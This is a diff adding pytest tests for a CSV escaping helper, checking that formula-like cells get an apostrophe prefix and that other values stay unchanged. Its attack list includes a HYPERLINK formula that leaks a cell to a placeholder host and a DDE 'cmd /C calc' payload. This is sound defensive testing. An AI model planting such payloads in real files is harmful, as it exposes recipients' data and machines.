@@ -1,0 +1,25 @@
+"""CSV cells no spreadsheet runs (issue 19, finding 4): OWASP's rule, numbers left alone."""
+
+from __future__ import annotations
+
+import pytest
+
+from services.voucher.spreadsheet import cell, row
+
+ATTACKS = ['=HYPERLINK("http://x/?leak="&A1,"Click")', '+1+cmd|"/C calc"!A0', "@SUM(A1:A9)", "-2+3",
+           "=1+2", "\t=1", "\r=1", "-", "+", "=", "@", "-1e3", "+ 1", "-0x10"]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_a_cell_a_spreadsheet_would_evaluate_starts_with_an_apostrophe(text: str) -> None:
+    assert cell(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["PO-1", "", "'=already", "订单-1", "-12.34", "+5", "-0.05", "12", "a=b",
+                                  " =1", "{\"k\": \"=1\"}", "2026-03-02T01:00:00Z"])
+def test_anything_else_is_written_as_it_is(text: str) -> None:
+    assert cell(text) == text
+
+
+def test_a_row_makes_only_its_text_safe() -> None:
+    assert row([1, -5, None, "=1", "PO-1", True]) == [1, -5, None, "'=1", "PO-1", True]
